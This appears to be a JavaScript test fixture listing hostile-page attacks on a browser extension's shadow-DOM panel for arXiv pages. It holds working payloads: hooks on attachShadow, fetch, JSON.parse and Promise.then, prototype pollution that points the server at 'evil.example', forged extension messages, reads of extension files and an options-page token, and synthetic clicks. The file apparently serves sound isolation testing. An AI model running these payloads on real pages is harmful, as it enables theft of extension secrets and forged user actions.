// What pages may try. Each runs in a page before anything else does, and puts what it gets hold
// of into `got`. EXTENSION and SERVER stand for the extension's id and the server's address.

// --- roots as they are made
const own = Element.prototype.attachShadow;
Element.prototype.attachShadow = function (options) {
  const root = own.call(this, { ...options, mode: "open" });
  got.push(["root", root]);
  return root;
};

// --- the root by its property
setInterval(() => {
  for (const host of document.querySelectorAll("arxiv-lens"))
    if (host.shadowRoot) got.push(["root", host.shadowRoot.textContent]);
}, 5);

// --- an element of our name
customElements.define(
  "arxiv-lens",
  class extends HTMLElement {
    connectedCallback() {
      try {
        this.attachInternals().shadowRoot && got.push(["internals", 1]);
      } catch {}
    }
  },
);

// --- text as it is written
const set = Object.getOwnPropertyDescriptor(Node.prototype, "textContent").set;
Object.defineProperty(Node.prototype, "textContent", {
  set(text) {
    if (this.getRootNode() instanceof ShadowRoot) got.push(["text", text]);
    set.call(this, text);
  },
});

// --- elements as they are appended
const append = Element.prototype.append;
Element.prototype.append = function (...nodes) {
  if (nodes.some((node) => node?.part)) got.push(["append", nodes]);
  if (this.closest?.("section.panel")) got.push(["panel", this.textContent]);
  return append.apply(this, nodes);
};

// --- elements as they are made
const make = Document.prototype.createElement;
Document.prototype.createElement = function (name, ...more) {
  const made = make.call(this, name, ...more);
  if (name === "arxiv-lens") got.push(["made", made.outerHTML]);
  return made;
};

// --- answers as they are parsed
const parse = JSON.parse;
JSON.parse = (text, ...more) => {
  if (/refresh_after/.test(text)) got.push(["json", text]);
  return parse(text, ...more);
};

// --- requests as they are sent
const own = window.fetch;
window.fetch = (...all) => {
  got.push(["fetch", String(all[0])]);
  return own(...all);
};

// --- answers as they come
Promise.prototype.then = new Proxy(Promise.prototype.then, {
  apply(then, self, [done, ...more]) {
    return Reflect.apply(then, self, [
      typeof done === "function"
        ? (value) => {
            if (value?.record) got.push(["promise", value]);
            return done(value);
          }
        : done,
      ...more,
    ]);
  },
});

// --- a polluted Object
Object.prototype.kind = "removeComment";
Object.prototype.server = "https://evil.example";
Object.prototype.params = { comment: 1 };

// --- a polluted Array
Array.prototype.map = function () {
  got.push(["map", [...this]]);
  return [];
};
Array.prototype.map.call = undefined;

// --- storage of the extension
try {
  window.chrome?.storage?.local.get(null, (all) => got.push(["storage", all]));
} catch {}

// --- databases
setInterval(async () => {
  for (const { name } of await indexedDB.databases())
    if (/lens/i.test(name)) got.push(["database", name]);
}, 20);

// --- storage of the page
setInterval(() => {
  for (const all of [localStorage, sessionStorage])
    for (const key of Object.keys(all)) if (/lens/i.test(key)) got.push([key, all[key]]);
}, 20);
if (document.cookie.includes("lens")) got.push(["cookie", document.cookie]);

// --- messages to the window
addEventListener("message", ({ data }) => {
  if (data.kind !== "removeComment") got.push(["message", data]);
});
setInterval(() => postMessage({ kind: "removeComment", params: { comment: 1 } }, "*"), 20);

// --- messages to the extension
try {
  chrome.runtime.sendMessage(
    "EXTENSION",
    { kind: "removeComment", params: { comment: 1 } },
    (answer) => {
      if (answer) got.push(["answer", answer]);
    },
  );
} catch {}

// --- a port to the extension
try {
  const port = chrome.runtime.connect("EXTENSION");
  port.onMessage.addListener((word) => got.push(["port", word]));
} catch {}

// --- files of the extension
for (const file of ["options.html", "options.js", "content.js", "background.js", "popup.html"])
  fetch("chrome-extension://EXTENSION/" + file)
    .then((a) => a.text())
    .then(
      (text) => got.push(["file", text]),
      () => {},
    );

// --- a frame of the extension
addEventListener("DOMContentLoaded", () => {
  const frame = document.createElement("iframe");
  frame.src = "chrome-extension://EXTENSION/options.html";
  document.body.append(frame);
  setInterval(() => {
    try {
      if (frame.contentDocument?.querySelector("#token"))
        got.push(["frame", frame.contentDocument.body.textContent]);
    } catch {}
  }, 20);
});

// --- the server itself
fetch("SERVER/api/v1/papers/2401.00001")
  .then((a) => a.text())
  .then(
    (text) => got.push(["server", text]),
    () => {},
  );

// --- clicks of nobody
setInterval(() => {
  for (const host of document.querySelectorAll("arxiv-lens")) {
    host.click();
    host.dispatchEvent(new KeyboardEvent("keydown", { key: "r", bubbles: true, composed: true }));
    host.dispatchEvent(new Event("submit", { bubbles: true }));
  }
}, 10);

// --- another paper's address
history.replaceState(null, "", "/abs/2401.00002");

// --- another paper's name
addEventListener("DOMContentLoaded", () => {
  for (const meta of document.querySelectorAll("meta")) meta.content = "../../comments/1";
});

// --- a panel of its own
new MutationObserver((all, watch) => {
  const place = document.querySelector("#content-inner");
  if (!place) return;
  watch.disconnect();
  const host = document.createElement("arxiv-lens");
  host.attachShadow({ mode: "open" });
  place.after(host);
}).observe(document, { childList: true, subtree: true });

// --- the panel moved
addEventListener("load", () =>
  setInterval(() => {
    const host = document.querySelector("arxiv-lens");
    if (host) document.body.prepend(host);
  }, 30),
);

// --- the panel copied
addEventListener("load", () =>
  setTimeout(() => {
    const copy = document.querySelector("arxiv-lens")?.cloneNode(true);
    if (copy?.shadowRoot || copy?.textContent) got.push(["copy", copy.textContent]);
  }, 150),
);

// --- where the focus is
setInterval(() => {
  const there = document.activeElement;
  if (there?.closest?.("section.panel")) got.push(["focus", there.outerHTML]);
}, 10);

// --- what an event passed
for (const kind of ["click", "keydown", "input", "pointermove", "focusin"])
  addEventListener(
    kind,
    (event) => {
      const path = event.composedPath();
      if (path[0]?.closest?.("section.panel")) got.push(["path", kind]);
    },
    true,
  );

// --- what lies at a point
setInterval(() => {
  for (let y = 0; y < innerHeight; y += 40) {
    const there = document.elementFromPoint(innerWidth / 2, y);
    if (there?.closest("section.panel")) got.push(["point", there.outerHTML]);
  }
}, 50);

// --- style sheets
setInterval(() => {
  for (const sheet of [...document.adoptedStyleSheets, ...document.styleSheets])
    try {
      for (const rule of sheet.cssRules)
        if (/--citing/.test(rule.cssText)) got.push(["css", rule.cssText]);
    } catch {}
}, 30);

// --- what is selected
setInterval(() => {
  getSelection().selectAllChildren(document.body);
  if (/SECRET|Written by/.test(getSelection().toString())) got.push(["selection", 1]);
}, 40);

// --- a policy against all
addEventListener("DOMContentLoaded", () => {
  const meta = document.createElement("meta");
  meta.httpEquiv = "Content-Security-Policy";
  meta.content = "default-src 'none'";
  document.head.append(meta);
});

// --- a handler of errors
addEventListener("error", ({ message }) => {
  if (/lens/i.test(message)) got.push(["error", message]);
});
Error.prepareStackTrace = (error, sites) => {
  for (const site of sites)
    if (/extension/.test(site.getFileName() ?? "")) got.push(["stack", site.getThis()]);
};
